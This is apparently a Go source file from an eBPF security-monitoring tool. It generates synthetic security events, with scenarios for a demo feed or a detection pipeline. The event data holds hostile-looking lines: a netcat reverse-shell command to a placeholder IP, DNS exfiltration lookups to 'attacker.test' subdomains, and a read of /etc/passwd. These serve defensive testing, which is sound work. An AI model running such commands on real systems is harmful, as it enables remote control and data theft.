package collector

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"time"

	"github.com/ogulcanaydogan/ebpf-secstream/pkg/schema"
	"github.com/ogulcanaydogan/ebpf-secstream/pkg/stream"
)

// SampleMeta identifies the workload attributes attached to generated events.
type SampleMeta struct {
	Node      string
	Namespace string
	Service   string
	Pod       string
}

var syntheticScenarioSequence = map[string][]string{
	"baseline":         {"baseline"},
	"dns_exfiltration": {"dns_exfiltration"},
	"reverse_shell":    {"reverse_shell"},
	"sensitive_file":   {"sensitive_file"},
	"http_probe":       {"http_probe"},
	"mixed":            {"baseline", "dns_exfiltration", "http_probe", "reverse_shell", "baseline", "sensitive_file"},
}

// SupportedSyntheticScenarios returns accepted synthetic scenario names.
func SupportedSyntheticScenarios() []string {
	return []string{
		"baseline",
		"dns_exfiltration",
		"reverse_shell",
		"sensitive_file",
		"http_probe",
		"mixed",
	}
}

// BuildSyntheticEvent returns one scenario-specific raw event for the given
// index, shaped like the events the live stream pushes.
func BuildSyntheticEvent(scenario string, idx int, timestamp time.Time, meta SampleMeta) (map[string]any, error) {
	labels, ok := syntheticScenarioSequence[scenario]
	if !ok {
		return nil, fmt.Errorf("unsupported scenario %q", scenario)
	}
	return buildScenarioEvent(meta, timestamp, idx, labels[idx%len(labels)]), nil
}

func buildScenarioEvent(meta SampleMeta, timestamp time.Time, idx int, label string) map[string]any {
	pid := 12000 + idx
	pod := map[string]any{
		"namespace": meta.Namespace,
		"name":      meta.Pod,
		"container": map[string]any{"name": meta.Service},
	}
	event := map[string]any{
		"id":        fmt.Sprintf("synthetic-%s-%04d", label, idx+1),
		"timestamp": timestamp.UTC().Format(time.RFC3339Nano),
		"node_name": meta.Node,
		"service":   meta.Service,
		"pod_name":  meta.Pod,
		"namespace": meta.Namespace,
	}

	switch label {
	case "dns_exfiltration":
		event["event_type"] = string(schema.TypeDNSLookup)
		event["severity"] = "HIGH"
		event["action"] = string(schema.ActionMonitored)
		event["names"] = []string{
			fmt.Sprintf("%x.a.attacker.test", pid),
			fmt.Sprintf("%x.b.attacker.test", pid),
		}
	case "reverse_shell":
		event["event_type"] = string(schema.TypeProcessExec)
		event["severity"] = "CRITICAL"
		event["action"] = string(schema.ActionBlocked)
		event["process_exec"] = map[string]any{
			"process": map[string]any{
				"pid":       pid,
				"binary":    "/usr/bin/nc",
				"arguments": "-e /bin/sh 203.0.113.7 4444",
				"pod":       pod,
			},
		}
	case "sensitive_file":
		event["event_type"] = string(schema.TypeProcessKprobe)
		event["severity"] = "CRITICAL"
		event["action"] = string(schema.ActionAllowed)
		event["process_kprobe"] = map[string]any{
			"function_name": "security_file_open",
			"args":          []string{"/etc/passwd", "O_RDONLY"},
			"process": map[string]any{
				"pid":       pid,
				"binary":    "/bin/cat",
				"arguments": "/etc/passwd",
				"pod":       pod,
			},
		}
	case "http_probe":
		event["type"] = "http_flow"
		event["severity"] = "MEDIUM"
		event["action"] = string(schema.ActionAllowed)
		event["data"] = map[string]any{
			"http": map[string]any{
				"method":      "GET",
				"url":         "/api/v1/admin/export?limit=10000",
				"status_code": 403,
			},
		}
	default:
		event["event_type"] = string(schema.TypeProcessExec)
		event["severity"] = "LOW"
		event["action"] = string(schema.ActionAllowed)
		event["process_exec"] = map[string]any{
			"process": map[string]any{
				"pid":    pid,
				"binary": "/usr/local/bin/trading-api",
				"pod":    pod,
			},
		}
	}
	return event
}

// SyntheticSource is a timer-driven demo feed. Each Dial starts a fresh
// stream: a welcome frame followed by one security_event frame per
// Interval.
type SyntheticSource struct {
	Scenario string
	Interval time.Duration
	// Count ends the stream after this many events. 0 streams forever.
	Count int
	Meta  SampleMeta
	Now   func() time.Time
}

// Dial validates the scenario and opens a new synthetic stream.
func (s SyntheticSource) Dial(ctx context.Context) (stream.Conn, error) {
	if _, ok := syntheticScenarioSequence[s.Scenario]; !ok {
		return nil, fmt.Errorf("unsupported scenario %q", s.Scenario)
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	interval := s.Interval
	if interval <= 0 {
		interval = time.Second
	}
	now := s.Now
	if now == nil {
		now = time.Now
	}
	return &syntheticConn{
		src:      s,
		now:      now,
		ticker:   time.NewTicker(interval),
		closed:   make(chan struct{}),
		greeting: true,
	}, nil
}

type syntheticConn struct {
	src      SyntheticSource
	now      func() time.Time
	ticker   *time.Ticker
	idx      int
	greeting bool

	closeOnce sync.Once
	closed    chan struct{}
}

func (c *syntheticConn) ReadMessage() ([]byte, error) {
	if c.greeting {
		c.greeting = false
		return json.Marshal(map[string]any{
			"type":      schema.MessageWelcome,
			"message":   fmt.Sprintf("synthetic %s feed", c.src.Scenario),
			"timestamp": c.now().UTC().Format(time.RFC3339),
		})
	}
	if c.src.Count > 0 && c.idx >= c.src.Count {
		return nil, io.EOF
	}

	select {
	case <-c.closed:
		return nil, io.EOF
	case <-c.ticker.C:
	}

	event, err := BuildSyntheticEvent(c.src.Scenario, c.idx, c.now(), c.src.Meta)
	if err != nil {
		return nil, err
	}
	c.idx++
	return json.Marshal(map[string]any{
		"type":  schema.MessageSecurityEvent,
		"event": event,
	})
}

func (c *syntheticConn) Close() error {
	c.closeOnce.Do(func() {
		c.ticker.Stop()
		close(c.closed)
	})
	return nil
}
